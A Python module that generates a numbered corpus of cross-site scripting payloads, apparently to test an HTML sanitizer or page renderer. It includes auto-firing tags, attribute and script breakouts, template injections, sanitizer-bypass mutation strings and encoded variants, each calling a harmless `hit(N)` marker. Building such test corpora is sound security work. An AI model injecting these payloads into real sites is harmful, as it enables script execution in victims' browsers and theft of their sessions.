"""Texts that run a script where a page takes them for code; each calls `hit` with its own number.

Made from parts: what starts a script by itself, what breaks out of the place a text stands in, and
other spellings of the same. Written for this project; no list of others is needed.
"""

import html
import urllib.parse
from itertools import product

# What starts by itself, or at the first click; N becomes the number.
STARTERS = (
    "<script>hit(N)</script>",
    "<svg onload=hit(N)>",
    "<img src=x: onerror=hit(N)>",
    "<body onload=hit(N)>",
    "<body onpageshow=hit(N)>",
    "<iframe onload=hit(N)>",
    "<iframe srcdoc='<script>parent.hit(N)</script>'>",
    "<iframe src=javascript:parent.hit(N)>",
    "<object data=javascript:parent.hit(N)>",
    "<embed src=javascript:parent.hit(N)>",
    "<details open ontoggle=hit(N)>x",
    "<input autofocus onfocus=hit(N)>",
    "<select autofocus onfocus=hit(N)>",
    "<textarea autofocus onfocus=hit(N)>",
    "<p tabindex=1 autofocus onfocus=hit(N)>x",
    "<video><source onerror=hit(N)>",
    "<audio src=x: onerror=hit(N)>",
    "<link rel=stylesheet href=x: onerror=hit(N)>",
    "<style onload=hit(N)>x{}</style>",
    "<svg><script>hit(N)</script></svg>",
    "<svg><animate onbegin=hit(N) attributeName=x dur=1s>",
    "<svg><set onbegin=hit(N) attributeName=x to=1>",
    "<a href=javascript:hit(N)>x</a>",
    "<form action=javascript:hit(N)><button>x</button></form>",
    "<button formaction=javascript:hit(N) form=x>x</button>",
    "<svg><a xlink:href=javascript:hit(N)><text>x</text></a></svg>",
    "<div hx-get=/ hx-trigger=load hx-on::after-request=hit(N)>x</div>",
    "<div hx-on:htmx:load=hit(N)>x</div>",
    "<meta http-equiv=refresh content='0;url=javascript:hit(N)'>",
    "<base href=javascript:hit(N)//>",
)
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "</option></select>",
    "]]>",
    "</template>",
    "</noscript>",
    "</text></svg>",
    "\x60>",
)
# Without any bracket: out of an attribute, out of a line of script, into a template.
WITHOUT_BRACKETS = (
    '" autofocus onfocus=hit(N) x="',
    "' autofocus onfocus=hit(N) x='",
    '" onpointerenter=hit(N) style="position:fixed;inset:0',
    "x autofocus onfocus=hit(N) ",
    '" formaction="javascript:hit(N)',
    '" href="javascript:hit(N)',
    '" hx-on::load="hit(N)',
    "javascript:hit(N)",
    "JaVaScRiPt:hit(N)",
    "java\tscript:hit(N)",
    "\x01javascript:hit(N)",
    "javascript&colon;hit(N)",
    "data:text/html,<script>parent.hit(N)</script>",
    "';hit(N);//",
    '";hit(N);//',
    "\\';hit(N);//",
    '\\";hit(N);//',
    "\u2028hit(N)//",
    "${hit(N)}",
    "`;hit(N);`",
    "*/hit(N)/*",
    "{{constructor.constructor('hit(N)')()}}",
    "{% debug %}{{ hit|safe }}hit(N)",
    "[[x]](javascript:hit(N))",
    "[x](javascript:hit(N))",
    "x:expression(hit(N))",
)
# Where a cleaner and a browser read differently.
READ_TWICE = (
    "<noscript><p title='</noscript><img src=x: onerror=hit(N)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x: onerror=hit(N)>'>",
    "<svg><style><img src=x: onerror=hit(N)></style></svg>",
    "<svg></p><style><a id='</style><img src=x: onerror=hit(N)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=hit(N)>",
    "<textarea><p title='</textarea><img src=x: onerror=hit(N)>'>",
    "<xmp><p title='</xmp><svg onload=hit(N)>'>",
    "<!--><svg onload=hit(N)>-->",
    "<!--!><svg onload=hit(N)>",
    "<![CDATA[><svg onload=hit(N)>]]>",
    "<?x ><svg onload=hit(N)>?>",
    "<scr<script>ipt>hit(N)</scr</script>ipt>",
    "<<svg onload=hit(N)>>",
    "<svg onload=hit(N)//",
    "<img src=x: onerror=hit(N) ",
)
SPELLED = STARTERS[:2] + STARTERS[2:4] + (STARTERS[5], STARTERS[10], STARTERS[11], STARTERS[19])


def _spellings(one: str) -> list[str]:
    wide = one.translate({ord("<"): "\uff1c", ord(">"): "\uff1e"})
    return [
        one.upper().replace("HIT(", "hit("),
        one.replace(" on", "/on", 1),
        one.replace(" on", "\non", 1),
        one.replace(" on", "\x0con", 1),
        one.replace("<", "<\x00", 1),
        one.replace("<s", "<\u200bs", 1),
        "\u202e" + one,
        html.escape(one),
        html.escape(html.escape(one)),
        urllib.parse.quote(one),
        one.replace("<", "\\u003c"),
        one.replace("<", "&#60;"),
        one.replace("<", "&lt"),
        wide,
        one.replace("hit", "&#104;it"),
    ]


def _make() -> tuple[str, ...]:
    found = [out + start for out, start in product(WAYS_OUT, STARTERS)]
    found += [*WITHOUT_BRACKETS, *READ_TWICE]
    found += [spelled for one in SPELLED for spelled in _spellings(one)]
    return tuple(
        one.replace("(N)", f"({number})") for number, one in enumerate(dict.fromkeys(found))
    )


PAYLOADS = _make()
